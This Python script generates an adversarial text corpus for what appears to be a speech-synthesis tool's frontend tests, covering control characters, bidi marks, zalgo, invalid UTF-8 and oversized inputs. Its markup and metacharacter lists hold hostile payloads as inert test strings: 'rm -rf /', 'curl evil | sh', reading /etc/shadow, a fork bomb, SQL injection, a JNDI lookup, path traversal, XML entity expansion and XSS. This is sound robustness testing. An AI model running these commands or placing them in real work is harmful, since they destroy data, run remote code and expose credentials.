#!/usr/bin/env python3
"""Writes adversarial.jsonl, the adversarial text corpus of the frontend tests.

Run from anywhere: `python3 crates/signet-cli/tests/data/make_adversarial.py`.
Deterministic (fixed seed): running it again gives the same file.

One JSON object per line:
  {"kind": K, "text": S}                 a string
  {"kind": K, "text": S, "repeat": N}    S repeated N times (keeps huge inputs small here)
  {"kind": K, "bytes_hex": H}            raw bytes that are not UTF-8 (lone surrogates,
                                         overlong forms, truncated sequences)
"""
import json
import os
import random

rng = random.Random(20261126)
out = []


def add(kind, text, repeat=None):
    if repeat is None and len(text) > 200:
        # Store a long repetition of a short unit as unit and count.
        for size in range(1, 33):
            unit = text[:size]
            if len(text) % size == 0 and unit * (len(text) // size) == text:
                text, repeat = unit, len(text) // size
                break
    item = {"kind": kind, "text": text}
    if repeat is not None:
        item["repeat"] = repeat
    out.append(item)


def add_bytes(kind, data):
    out.append({"kind": kind, "bytes_hex": data.hex()})


# Control characters: every C0 and C1 control and DEL, inside a sentence and alone.
for c in list(range(0x00, 0x20)) + [0x7F] + list(range(0x80, 0xA0)):
    add("control", f"Hello{chr(c)} world.")
add("control", "".join(chr(c) for c in range(0x00, 0x20)))
add("control", "\x1b[31mred\x1b[0m text and \x1b]0;title\x07 escapes.")
add("control", "Carriage\rreturn\r\nand\u0085next line.")

# Bidirectional controls and marks.
bidi = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
        "\u2069", "\u200e", "\u200f", "\u061c"]
for b in bidi:
    add("bidi", f"Pay {b}$100{b} now.")
    add("bidi", f"{b}{b}{b}abc{b}")
add("bidi", "file\u202eexe.txt is harmless.")
add("bidi", "\u202e" * 1000 + "reversed")
add("bidi", "שלום \u202dhello\u202c עולם")

# Zero-width and invisible characters.
for z in ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u2061",
          "\u2062", "\u2063", "\u2064", "\u115f", "\u3164"]:
    add("zero-width", f"in{z}vis{z}ible text.")
add("zero-width", "\u200b" * 5000)
add("zero-width", "\ufeff" + "BOM at the start.")

# Combining-mark floods (zalgo).
marks = [chr(c) for c in range(0x300, 0x370)]
for n in [1, 2, 3, 4, 5, 10, 50, 100, 500, 2000]:
    word = "".join(ch + "".join(rng.choice(marks) for _ in range(n)) for ch in "zalgo")
    add("zalgo", f"He comes {word}.")
add("zalgo", "\u0301" * 10000)
add("zalgo", "a" + "\u0300\u0301\u0302" * 3000 + " b.")
add("zalgo", "".join(rng.choice(marks) for _ in range(300)) + " leading marks.")

# Digits: up to a million.
for n in [1, 15, 16, 20, 100, 1000, 10000, 100000]:
    add("digits", "7" * n)
add("digits", "9", repeat=1000000)
add("digits", "1234567890 ", repeat=20000)
add("digits", "-" + "9" * 40 + "." + "1" * 40)
add("digits", "1," * 500 + "000")
for s in ["0", "-0", "00000", "1e309", "NaN", "Infinity", "1/0", "3.14159265358979323846264338327950288",
          "1,234,567,890,123,456,789", "999,999,999,999,999", "0.000000000001", "12:34:56:78:90",
          "1st 2nd 3rd 4th 101st 111th 1000000th", "−5", "٣٤٥", "१२३", "²³⁴", "½ ¾ ⅞", "Ⅻ", "１２３",
          "2024-02-30", "9999-99-99", "25:61", "$-5", "$1.2.3", "€€€5", "5%%%", "100°°F",
          "#1#2#3", "1-2-3-4-5-6-7-8-9", "555-0199-555-0199", "1990s2000s", "MMMMCMXCIX"]:
    add("number", f"The value is {s}.")

# Repeated punctuation.
for p in [".", "!", "?", ",", ";", ":", "-", "—", "…", "'", '"', "(", ")", "[", "]", "*",
          "/", "\\", "~", "_", "|", "^", "=", "+", "&", "@", "#", "%", "<", ">"]:
    add("punctuation", p * 1000)
    add("punctuation", f"Wait{p * 50}what{p * 50}")
add("punctuation", "?!" * 5000)
add("punctuation", ". " * 10000)
add("punctuation", "a . " * 300)
add("punctuation", "\u00e9 . " * 300)

# Mixed scripts.
scripts = ["Hello", "Привет", "Γειά", "مرحبا", "שלום", "你好", "こんにちは", "안녕하세요",
           "नमस्ते", "สวัสดี", "ሰላም", "Բարեւ", "გამარჯობა", "ᚠᚢᚦ", "𐌰𐌱𐌲", "ꦲꦏ꧀ꦱꦫ", "ᐊᐃᐅ",
           "ܫܠܡܐ", "ދިވެހި", "𓀀𓀁𓀂"]
for s in scripts:
    add("mixed-script", f"{s} and English.")
for _ in range(40):
    add("mixed-script", " ".join(rng.choice(scripts) for _ in range(rng.randint(2, 12))) + ".")
add("mixed-script", "pаypal.com (Cyrillic a) аnd Latin.")
add("mixed-script", "Ꭺpple ＡＰＰＬＥ 𝐀𝐩𝐩𝐥𝐞 𝔄𝔭𝔭𝔩𝔢 ⒶⓅⓅⓁⒺ")

# Invalid UTF-8 as bytes: lone surrogates, overlong forms, truncated sequences.
for hi in [0xA0, 0xAF, 0xB0, 0xBF]:
    for lo in [0x80, 0xBF]:
        add_bytes("invalid-utf8", b"lone surrogate \xed" + bytes([hi, lo]) + b" here.")
add_bytes("invalid-utf8", b"\xed\xa0\xbd\xed\xb8\x80 surrogate pair (CESU-8)")
add_bytes("invalid-utf8", b"overlong slash \xc0\xaf and \xe0\x80\xaf and \xf0\x80\x80\xaf")
add_bytes("invalid-utf8", b"overlong NUL \xc0\x80 inside.")
add_bytes("invalid-utf8", b"truncated \xe2\x82 euro.")
add_bytes("invalid-utf8", b"truncated at the end \xf0\x9f\x98")
add_bytes("invalid-utf8", b"\xff\xfe\x00H\x00i")
add_bytes("invalid-utf8", b"\xfe\xff\x00H\x00i")
add_bytes("invalid-utf8", b"stray continuation \x80\x81\x82 bytes.")
add_bytes("invalid-utf8", b"above U+10FFFF \xf4\x90\x80\x80.")
add_bytes("invalid-utf8", b"five-byte \xf8\x88\x80\x80\x80 form.")
add_bytes("invalid-utf8", bytes(range(0x80, 0x100)))
add_bytes("invalid-utf8", b"Latin-1 caf\xe9 na\xefve.")
for i in range(10):
    n = rng.randint(1, 40)
    add_bytes("invalid-utf8", b"ok " + bytes(rng.randrange(0x80, 0x100) for _ in range(n)) + b" end.")

# Very long words.
for n in [64, 65, 100, 500, 1000, 10000, 100000]:
    add("long-word", "a" * n)
add("long-word", "s'" * 220)
add("long-word", "Supercalifragilisticexpialidocious" * 30)
add("long-word", "https://example.com/" + "a/" * 2000)
add("long-word", "x@" + "y." * 1000 + "com")
add("long-word", "pneumonoultramicroscopicsilicovolcanoconiosis " * 20)
add("long-word", "Donaudampfschifffahrtsgesellschaftskapitänswitwe.")
add("long-word", "-".join(["word"] * 500))
add("long-word", "ab" * 40000)

# SSML-looking and other markup: spoken as text, never interpreted.
markup = [
    "<speak>Hello</speak>",
    '<speak><break time="3600s"/>done</speak>',
    '<prosody rate="x-slow" pitch="+1000%">slow</prosody>',
    '<audio src="file:///etc/passwd">fallback</audio>',
    '<say-as interpret-as="characters">ABC</say-as>',
    '<phoneme alphabet="ipa" ph="həˈloʊ">hello</phoneme>',
    '<voice name="../../../../etc/passwd">x</voice>',
    "<![CDATA[ raw ]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;&a;&a;</x>',
    '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">&lol2;',
    "&amp; &lt; &gt; &quot; &#x41; &#65; &#0; &#xD800; &#x110000;",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<mark name='m1'/> and <s>sentence</s> <p>para</p>",
    "<" * 500,
    "</speak>" * 100,
    "<speak>" * 100 + "deep" + "</speak>" * 100,
    "[[ ]]",
    "[[",
    "]]",
    "[[ [[ nested ]] ]]",
    "[[ h\u0000ə ]] nul",
    "[[ " + "ə" * 5000 + " ]]",
    "[[ ☺☻♥ ]] unknown symbols",
    "Say [[ həˈloʊ ]] twice [[ həˈloʊ ]].",
    "[[ (en)həˈloʊ(fr) ]] flags",
    "\\pau=500\\ \\rate=999\\ escape codes",
    "\u001b[0m{{7*7}} ${7*7} #{7*7} %{7*7}",
    "[[" * 1000,
    "]]" * 1000,
]
for m in markup:
    add("markup", m)
for tag in ["break", "emphasis", "sub", "lang", "w", "bookmark", "desc", "meta", "metadata", "lexicon"]:
    add("markup", f'<{tag} alias="x" time="999999ms" level="strong">text</{tag}> after.')

# Shell, SQL and other metacharacters: text, nothing more.
meta = [
    "$(rm -rf /)", "`reboot`", "; shutdown -h now", "| cat /etc/shadow", "&& curl evil | sh",
    "> /dev/sda", "< /dev/zero", "$HOME ${PATH} $((1+1))", "!!", "!-1", "*", "~root", "\\",
    "'; DROP TABLE voices; --", "\" OR \"1\"=\"1", "' OR 1=1 --", "1; SELECT * FROM users",
    "UNION SELECT password FROM users", "admin'--", "%s%s%s%n%n%n", "%x%x%x%x", "{0}{1}{2}",
    "${jndi:ldap://example.invalid/a}", "{{constructor.constructor('return 1')()}}",
    "../../../../etc/passwd", "..\\..\\windows\\system32", "file:///etc/passwd", "\\\\server\\share",
    "C:\\Windows\\System32\\cmd.exe /c calc", "%00", "%0d%0a Set-Cookie: a=b", "\r\nX-Injected: 1",
    "$'\\x41'", "IFS=,;`cat<<<uname,-a`", ":(){ :|:& };:", "eval(atob('YWxlcnQoMSk='))",
    "\u0000null\u0000bytes\u0000", "-rf --no-preserve-root", "--help", "-o /etc/passwd",
]
for m in meta:
    add("metachar", m)
    add("metachar", f"Please read this: {m} and stop.")

# Emoji and symbols.
emoji = ["🙂", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇸", "🇩🇪🇫🇷", "1️⃣", "#️⃣", "❤️", "🧑🏿‍🚀", "🫠", "🦀",
         "♠♣♥♦", "☃", "⚠️", "✔✘", "→←↑↓", "∑∏∫√∞≠≤≥", "©®™", "€£¥₹₿", "§¶†‡", "°′″", "µΩ℃℉",
         "⌘⌥⇧", "♩♪♫", "☢☣", "🀄🃏", "𝄞", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "👁️‍🗨️"]
for e in emoji:
    add("emoji", f"I feel {e} today.")
add("emoji", "🙂" * 2000)
add("emoji", "".join(emoji) * 10)

# Unassigned, private-use and noncharacter code points.
for c in [0x0378, 0x0380, 0x05FF, 0x2FFF, 0xE000, 0xF8FF, 0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF,
          0x1FFFE, 0x1FFFF, 0xF0000, 0x10FFFD, 0x10FFFF, 0xE0001, 0xE007F, 0x2FFFE, 0xFFF9, 0xFFFC]:
    add("unassigned", f"odd {chr(c)} point.")
add("unassigned", "".join(chr(c) for c in range(0xE000, 0xE800)))

# White space oddities.
spaces = ["\u00a0", "\u1680", "\u2000", "\u2001", "\u2002", "\u2003", "\u2007", "\u2009",
          "\u200a", "\u2028", "\u2029", "\u202f", "\u205f", "\u3000", "\t", "\x0b", "\x0c"]
for s in spaces:
    add("whitespace", f"spaced{s}out{s}{s}{s}words.")
add("whitespace", " " * 100000)
add("whitespace", "\n" * 50000)
add("whitespace", "\t \n \r " * 10000)

# Ordinary text stretched: no full stop in a long run, very many short sentences.
add("long-text", "and then it went on ", repeat=5000)
add("long-text", "Hi. ", repeat=20000)
add("long-text", "word, ", repeat=10000)

# Random combinations of the pieces above.
pieces = (bidi + [z for z in ["\u200b", "\u200d", "\ufeff"]] + marks[:20] + scripts + emoji
          + ["$5", "12:30", "Dr.", "e.g.", "NASA", "&", "@", "<b>", "[[", "]]", "'", ";", "\n"])
while len(out) < 620:
    n = rng.randint(1, 25)
    text = " ".join(rng.choice(pieces) for _ in range(n))
    add("combination", text)

path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "adversarial.jsonl")
with open(path, "w", encoding="utf-8", newline="\n") as f:
    for item in out:
        f.write(json.dumps(item, ensure_ascii=False) + "\n")
print(f"wrote {len(out)} entries to {path}")
